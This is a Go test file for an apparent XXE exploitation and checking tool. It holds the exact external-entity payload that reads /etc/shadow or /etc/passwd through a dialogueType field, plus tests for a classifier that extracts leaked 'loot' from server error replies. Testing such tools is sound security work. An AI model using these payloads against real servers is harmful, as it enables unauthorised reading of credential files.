package xxe

import (
	"bytes"
	"encoding/xml"
	"io"
	"strings"
	"testing"
)

// 38 characters, the length the default extractor strips.
const testPreamble = "Invalid dialogueType value provided: '"

func errorBody(t *testing.T, diagnostic string) []byte {
	t.Helper()
	var escaped bytes.Buffer
	if err := xml.EscapeText(&escaped, []byte(diagnostic)); err != nil {
		t.Fatal(err)
	}
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>` +
		`<message><messageHeader><messageType>error</messageType></messageHeader>` +
		`<messageBody><generalErrorText>` + escaped.String() + `</generalErrorText></messageBody></message>`)
}

func TestEntityGeneratorLengthAndAlphabet(t *testing.T) {
	gen := NewSeededEntityGenerator(42)
	seen := map[int]bool{}
	for i := 0; i < 500; i++ {
		name := gen.Generate()
		if len(name) < 4 || len(name) > 7 {
			t.Fatalf("entity %q has invalid length %d", name, len(name))
		}
		for _, r := range name {
			if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z') {
				t.Fatalf("entity %q contains non-letter %q", name, r)
			}
		}
		seen[len(name)] = true
	}
	for n := 4; n <= 7; n++ {
		if !seen[n] {
			t.Errorf("length %d never generated", n)
		}
	}
}

func TestEntityGeneratorDefaultSource(t *testing.T) {
	if name := NewEntityGenerator().Generate(); len(name) < 4 || len(name) > 7 {
		t.Fatalf("unexpected entity %q", name)
	}
}

func TestBuildPayloadExactBytes(t *testing.T) {
	got := BuildPayload("xYzw", "/etc/shadow")
	want := "<?xml version=\"1.0\" encoding='utf-8' ?>\r\n" +
		"<!DOCTYPE a [<!ENTITY xYzw SYSTEM '/etc/shadow'> ]>\r\n" +
		"<message><dialogueType>&xYzw;</dialogueType></message>\r\n"
	if got != want {
		t.Fatalf("payload mismatch\n got: %q\nwant: %q", got, want)
	}
}

func TestBuildPayloadPassesPathVerbatim(t *testing.T) {
	path := "/var/tmp/a b&c%20.txt"
	if !strings.Contains(BuildPayload("abcd", path), "SYSTEM '"+path+"'") {
		t.Fatal("remote path must not be escaped")
	}
}

func TestBuildPayloadWellFormed(t *testing.T) {
	gen := NewSeededEntityGenerator(7)
	for i := 0; i < 50; i++ {
		entity := gen.Generate()
		payload := BuildPayload(entity, "/etc/passwd")

		if n := strings.Count(payload, "<!DOCTYPE"); n != 1 {
			t.Fatalf("expected one DOCTYPE, got %d", n)
		}
		if n := strings.Count(payload, "&"+entity+";"); n != 1 {
			t.Fatalf("expected one reference to %s, got %d", entity, n)
		}

		dec := xml.NewDecoder(strings.NewReader(payload))
		dec.Entity = map[string]string{entity: "expanded"}
		var elements []string
		var text string
		for {
			tok, err := dec.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("payload for %s is not well-formed: %v", entity, err)
			}
			switch v := tok.(type) {
			case xml.StartElement:
				elements = append(elements, v.Name.Local)
			case xml.CharData:
				text += string(v)
			}
		}
		if strings.Join(elements, ",") != "message,dialogueType" {
			t.Fatalf("unexpected element structure %v", elements)
		}
		if !strings.Contains(text, "expanded") {
			t.Fatalf("entity reference was not inside dialogueType")
		}
	}
}

func TestClassifyDecisionTable(t *testing.T) {
	c := NewClassifier()
	cases := []struct {
		name   string
		status int
		body   []byte
		want   Outcome
	}{
		{"empty body on 200", 200, nil, OutcomeEmptyFile},
		{"empty body on 302", 302, []byte{}, OutcomeEmptyFile},
		{"empty body on 500", 500, []byte(""), OutcomeEmptyFile},
		{"redirect", 302, []byte("<html>moved</html>"), OutcomeBadCookie},
		{"redirect with error body", 302, errorBody(t, testPreamble+"root:x:0:0'"), OutcomeBadCookie},
		{"bad request", 200, []byte("Bad request"), OutcomeNotVulnerable},
		{"bad request wins over general error", 200, []byte("Bad request <generalError/>"), OutcomeNotVulnerable},
		{"general error without text node", 200, []byte("<message><messageBody><generalError/></messageBody></message>"), OutcomeNotVulnerable},
		{"general error with empty text", 200, errorBody(t, ""), OutcomeNotVulnerable},
		{"general error unparseable", 200, []byte("generalError <<<"), OutcomeNotVulnerable},
		{"patched", 200, errorBody(t, testPreamble+"'"), OutcomePatched},
		{"leaked", 200, errorBody(t, testPreamble+"root:x:0:0:...'"), OutcomeLeaked},
		{"general error on 500", 500, errorBody(t, testPreamble+"root'"), OutcomeNotVulnerable},
		{"unknown body", 200, []byte("<html>welcome</html>"), OutcomeNotVulnerable},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := c.Classify(tc.status, tc.body, "/etc/shadow")
			if got.Outcome != tc.want {
				t.Fatalf("got %s (%s), want %s", got.Outcome, got.Detail, tc.want)
			}
			if got.Outcome != OutcomeLeaked && got.Loot != nil {
				t.Fatalf("non-leak outcome carries loot %q", got.Loot)
			}
		})
	}
}

func TestClassifyLeakRoundTrip(t *testing.T) {
	c := NewClassifier()
	for _, payload := range []string{
		"root:x:0:0:...",
		"root:$6$salt$hash:15000:0:99999:7:::\nbin:*:15000:0:99999:7:::\n",
		"quote ' inside and <tags> & ampersands",
		"ünïcödé",
	} {
		res := c.Classify(200, errorBody(t, testPreamble+payload+"'"), "/etc/shadow")
		if res.Outcome != OutcomeLeaked {
			t.Fatalf("payload %q: got %s (%s)", payload, res.Outcome, res.Detail)
		}
		if string(res.Loot) != payload {
			t.Fatalf("loot mismatch: got %q want %q", res.Loot, payload)
		}
		if res.Filename != "shadow" || res.SourcePath != "/etc/shadow" {
			t.Fatalf("unexpected naming %q %q", res.Filename, res.SourcePath)
		}
	}
}

func TestClassifyIdempotent(t *testing.T) {
	c := NewClassifier()
	body := errorBody(t, testPreamble+"root:x:0:0:...'")
	first := c.Classify(200, body, "/etc/passwd")
	second := c.Classify(200, body, "/etc/passwd")
	if first.Outcome != second.Outcome || !bytes.Equal(first.Loot, second.Loot) || first.Filename != second.Filename {
		t.Fatalf("classification changed between calls: %+v vs %+v", first, second)
	}
}

func TestClassifyLatin1Body(t *testing.T) {
	body := []byte(`<?xml version="1.0" encoding="ISO-8859-1"?><message><messageBody><generalErrorText>` +
		testPreamble + "caf\xe9'" + `</generalErrorText></messageBody></message>`)
	res := NewClassifier().Classify(200, body, "/tmp/menu.txt")
	if res.Outcome != OutcomeLeaked {
		t.Fatalf("got %s (%s)", res.Outcome, res.Detail)
	}
	if string(res.Loot) != "café" {
		t.Fatalf("expected decoded latin-1 loot, got %q", res.Loot)
	}
}

func TestClassifyCustomExtractorAndSignatures(t *testing.T) {
	c := NewClassifier(
		WithSignatures("Rejected", "faultString"),
		WithExtractor(func(s string) string { return strings.TrimPrefix(s, "leak=") }),
	)
	if got := c.Classify(200, []byte("Rejected"), "/x").Outcome; got != OutcomeNotVulnerable {
		t.Fatalf("custom bad request signature: got %s", got)
	}
	body := []byte(`<message><messageBody><generalErrorText>leak=secret</generalErrorText><faultString/></messageBody></message>`)
	res := c.Classify(200, body, "/x/secret.txt")
	if res.Outcome != OutcomeLeaked || string(res.Loot) != "secret" {
		t.Fatalf("custom extractor: got %s %q", res.Outcome, res.Loot)
	}
}

func TestOffsetExtractor(t *testing.T) {
	extract := OffsetExtractor(3, 1)
	cases := map[string]string{
		"abcXYZ!": "XYZ",
		"abc!":    "",
		"ab":      "",
		"":        "",
		"äöüé!":   "é",
	}
	for in, want := range cases {
		if got := extract(in); got != want {
			t.Errorf("extract(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestOutcomeNames(t *testing.T) {
	for o := OutcomeUnknown; o <= OutcomeLeaked; o++ {
		if ParseOutcome(o.String()) != o {
			t.Errorf("outcome %d does not round-trip through %q", o, o.String())
		}
		if o.Message() == "" {
			t.Errorf("outcome %s has no message", o)
		}
	}
	if !OutcomeBadCookie.Failed() || OutcomeLeaked.Failed() || OutcomePatched.Failed() {
		t.Error("unexpected Failed() classification")
	}
}
